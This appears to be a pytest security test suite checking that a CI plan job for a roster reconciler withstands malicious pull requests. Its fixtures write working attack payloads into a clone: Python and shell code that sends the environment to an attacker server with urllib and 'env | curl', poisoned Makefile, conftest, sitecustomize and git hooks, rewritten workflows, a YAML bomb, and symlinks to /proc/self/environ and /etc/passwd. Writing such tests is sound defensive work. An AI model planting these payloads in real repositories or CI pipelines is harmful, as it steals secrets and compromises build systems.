"""What a pull request tries against the job that plans it: it gets no secret and no write.

Each is a real pull request on a real host, planned by the real workflow. The canaries are the job's
secrets; they are searched in what was printed (which the runner does not mask here), in every
request to the host, in what stands there afterwards, and in what reached somebody else's server.
"""

from __future__ import annotations

import os
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from reconciler.codehost.model import HostKind
from tests.codehost.conftest import on_both
from tests.codehost.recorder import ROSTERS_TOKEN, Recorder, recording
from tests.codehost.server import CLERK, JOBS
from tests.codehost.town import KEY, JobResult, Town
from tests.journeys.books import rows
from tests.support.sandbox import GOOGLE

pytestmark = on_both

Attack = Callable[[Path, str], None]
"""Edits a clone; the text is the address of a server that belongs to the attacker."""


def school(clone: Path) -> Path:
    """A school's file."""
    return clone / "schools" / f"{GOOGLE}.yaml"


def append(path: Path, text: str) -> None:
    """More at the end of a file."""
    path.write_text(path.read_text("utf-8") + text, "utf-8")


def evil_rule(clone: Path, server: str) -> None:
    """A rule whose import sends the environment away."""
    (clone / "policies" / "evil.py").write_text(
        "import os, urllib.request\n"
        f"urllib.request.urlopen({server!r}, data=repr(dict(os.environ)).encode())\n"
    )
    append(clone / "policies" / "__init__.py", "\nfrom policies import evil\n")
    append(clone / "policies" / "pupils.py", "\nfrom policies import evil\n")


def evil_targets(clone: Path, server: str) -> None:
    """A Makefile, a conftest, a sitecustomize and a hook, all of which print the environment."""
    steal = f"env | curl -s --data-binary @- {server}\n"
    (clone / "Makefile").write_text(f"install:\n\t{steal}")
    python = f"import os; os.system({steal!r})\n"
    for name in ("sitecustomize.py", "conftest.py", "reconciler.py", "stacks/__main__.py"):
        (clone / name).write_text(python)
    hook = clone / ".githooks" / "post-checkout"
    hook.parent.mkdir()
    hook.write_text(f"#!/bin/sh\n{steal}")
    hook.chmod(0o755)
    (clone / ".gitattributes").write_text("* filter=evil diff=evil merge=evil\n")


def evil_workflow(clone: Path, server: str) -> None:
    """The jobs themselves, and the action that they use."""
    steal = f"env | curl -s --data-binary @- {server}"
    for file in clone.glob(".git[eh]*/**/*.yml"):
        text = file.read_text("utf-8")
        file.write_text(text.replace("reconciler ci $RUN", f"{steal}; reconciler ci $RUN"))


def yaml_bomb(clone: Path, _server: str) -> None:
    """A thousand million values in ten lines."""
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 10)]
    append(school(clone), "\n".join(["", *lines, ""]))


def other_host(clone: Path, server: str) -> None:
    """A stack whose tenants, key and ledger lie at the attacker's."""
    for stack in (clone / "stacks").glob("*.yaml"):
        text = stack.read_text("utf-8").replace("endpoint: simulator", f"endpoint: {server}")
        stack.write_text(text)


def outside_path(clone: Path, _server: str) -> None:
    """Manifests that are links: to the job's environment, and to a file of the machine."""
    layout = clone / "schools" / "layouts" / "stolen.yaml"
    layout.symlink_to("/proc/self/environ")
    (clone / "schools" / "passwd.yaml").symlink_to("/etc/passwd")


def outside_folder(clone: Path, _server: str) -> None:
    """A layout that is said to lie outside of the repository."""
    text = school(clone).read_text("utf-8")
    school(clone).write_text(text.replace("layout: osnovno", "layout: ../../../../etc/passwd"))


def own_waiver(clone: Path, _server: str) -> None:
    """Outsiders among pupils, with the waiver and the level that would allow it."""
    append(
        school(clone),
        "\ngroups:\n  club:\n    name: {bg: Клуб, en: Club}\n"
        "    owners: [{role: teacher}]\n    members: [{role: pupil, grade: 5}]\n"
        "    settings: {outsiders: true}\n",
    )
    levels = clone / "policies" / "levels.yaml"
    levels.write_text(levels.read_text("utf-8").replace("mandatory", "advisory"))


def prints_environment(clone: Path, _server: str) -> None:
    """A name that looks like a variable, in every spelling."""
    names = "${RECONCILER_PSEUDONYM_KEY} $ROSTERS_TOKEN {{ env.GITHUB_TOKEN }} ${{ secrets.X }}"
    append(
        school(clone),
        f"\ngroups:\n  club:\n    name: {{bg: '{names}', en: '{names}'}}\n"
        "    owners: [{role: teacher}]\n    members: [{role: teacher}]\n",
    )


def writes_the_secret(clone: Path, _server: str) -> None:
    """Somebody who guessed the key has it confirmed by the comment? It is not sent."""
    append(
        school(clone),
        f"\ngroups:\n  club:\n    name: {{bg: {KEY}, en: {KEY}}}\n"
        "    owners: [{role: teacher}]\n    members: [{role: teacher}]\n",
    )


@pytest.fixture(scope="module")
def server() -> Iterator[Recorder]:
    """The attacker's server: it hears of nothing."""
    with recording(Recorder("http://127.0.0.1:9")) as recorder:
        recorder.trouble = lambda _method, _path: (200, {})
        yield recorder


def addresses(town: Town) -> list[str]:
    """Everybody's, of the lists that the job was given."""
    found = [
        row["email"]
        for path in town.sandbox.rosters.glob("*/users.csv")
        for row in rows(path)
        if row["email"]
    ]
    assert len(found) > 100
    return found


def attacked(
    town: Town, server: Recorder, attack: Attack, *, queued: bool = False
) -> tuple[int, JobResult]:
    """The pull request, planned by its job; nothing of the job's was seen or written."""
    town.proxy.requests.clear()
    written = town.sandbox.writes()
    branch = f"{attack.__name__}-queued" if queued else attack.__name__
    number = town.propose(branch, lambda clone: attack(clone, server.url))
    if queued:
        queue, event = town.queue(number, branch)
        result = town.job("merge_group", "plan", event, branch=queue)
    else:
        result = town.job("pull_request_target", "plan", town.pull_event(number))
    assert server.requests == []
    assert town.sandbox.writes() == written
    canaries = [KEY, ROSTERS_TOKEN, town.server.tokens[JOBS], *addresses(town)]
    shown = [result.out, town.comment(number), str(town.statuses(town.git("rev-parse", "HEAD")))]
    shown += town.artifacts().values()
    shown += [body.decode(errors="replace") for _, _, body in town.proxy.requests]
    assert [one for one in canaries for text in shown if one in text] == []
    assert os.environ.get("HOME", "/nowhere") not in "".join(shown[1:])
    return number, result


@pytest.mark.parametrize("attack", [evil_rule, evil_targets, evil_workflow, other_host])
def test_code_and_stacks_of_a_pull_request_are_never_used(
    town: Town, server: Recorder, attack: Attack
) -> None:
    """The plan is made as if they were not there, and says where they decide something."""
    number, result = attacked(town, server, attack)
    assert result.code == 0, result.out
    comment = town.comment(number)
    assert "this pull request changes nothing in the tenants" in comment
    if attack is evil_workflow:
        assert re.search(r"This pull request allows more.* .git(hub|ea)/.*: the jobs", comment)


@pytest.mark.parametrize("attack", [evil_rule, evil_targets, other_host])
def test_nor_are_they_in_a_merge_queue(town: Town, server: Recorder, attack: Attack) -> None:
    """The queue's commit is checked out there; what decides is still read from the base's."""
    if town.jobs is not HostKind.GITHUB:
        pytest.skip("Gitea has no merge queue")
    number, result = attacked(town, server, attack, queued=True)
    assert result.code == 0, result.out
    assert "this pull request changes nothing in the tenants" in town.comment(number)


@pytest.mark.parametrize("attack", [yaml_bomb, outside_path, outside_folder, prints_environment])
def test_files_that_cannot_be_manifests_are_told_and_not_read(
    town: Town, server: Recorder, attack: Attack
) -> None:
    """At once, with their place, and without what they lead to."""
    number, result = attacked(town, server, attack)
    assert result.code != 0
    comment = town.comment(number)
    assert "No plan" in comment
    assert "root:x:0" not in comment
    assert "PATH=" not in comment
    assert town.statuses(town.git("rev-parse", "HEAD")) == {"reconciler/plan (sandbox)": "failure"}


def test_a_waiver_for_oneself_is_told_first_and_counts_only_after_the_merge(
    town: Town, server: Recorder
) -> None:
    """The rule refuses the school as though the levels had not been touched."""
    number, result = attacked(town, server, own_waiver)
    assert result.code == 0, result.out
    comment = town.comment(number)
    assert "This pull request allows more" in comment
    if town.jobs is HostKind.GITHUB:
        assert re.search(rf"::error file=schools/{GOOGLE}\.yaml,line=\d+::", result.out)
        assert town.artifacts().keys() == {"plan.json", "plan.md", "lines.sarif"}
    assert town.statuses(town.git("rev-parse", "HEAD")) == {"reconciler/plan (sandbox)": "failure"}


def test_a_text_that_holds_a_secret_is_not_sent(town: Town, server: Recorder) -> None:
    """The job fails and names the variable, never its value."""
    number, result = attacked(town, server, writes_the_secret)
    assert result.code != 0
    assert "RECONCILER_PSEUDONYM_KEY: it was not sent" in result.out
    assert KEY not in result.out + town.comment(number)
    assert all(KEY.encode() not in body for _, _, body in town.proxy.requests)


def test_a_fork_is_checked_without_a_secret(town: Town, server: Recorder) -> None:
    """Its job names none: nobody's list, no tenant; the status of the plan stays open."""
    town.server.ask(CLERK, "POST", f"/repos/{town.repository}/forks", {"name": town.owner})
    theirs = f"{CLERK}/{town.owner}"
    town.await_branch("main", town.main(), theirs, CLERK)
    town.git("fetch", "-q", "origin")
    town.git("checkout", "-q", "-B", "from-a-fork", "origin/main")
    own_waiver(town.clone, server.url)
    evil_rule(town.clone, server.url)
    town.git("add", "-A", "-f", ".")
    town.git("commit", "-q", "-m", "schools: from a fork")
    town.git("push", "-q", town.server.remote(CLERK, theirs), "HEAD:from-a-fork")
    head = town.git("rev-parse", "HEAD")
    town.await_branch("from-a-fork", head, theirs, CLERK)
    body = {"head": f"{CLERK}:from-a-fork", "base": "main", "title": "from a fork"}
    number = int(town.ask("POST", "/pulls", body, CLERK)["number"])
    town.sandbox.forget_log()
    event = town.pull_event(number)
    skipped = town.job("pull_request_target", "plan", event)
    assert "reconciler ci" not in skipped.out
    result = town.job("pull_request_target", "fork", event)
    assert result.code == 0, result.out
    assert server.requests == []
    assert town.sandbox.ask("GET", "requests")["requests"] == []
    assert "This comes from a fork" in town.comment(number)
    assert town.statuses(head) == {"reconciler/check (sandbox)": "failure"}
    assert KEY not in result.out
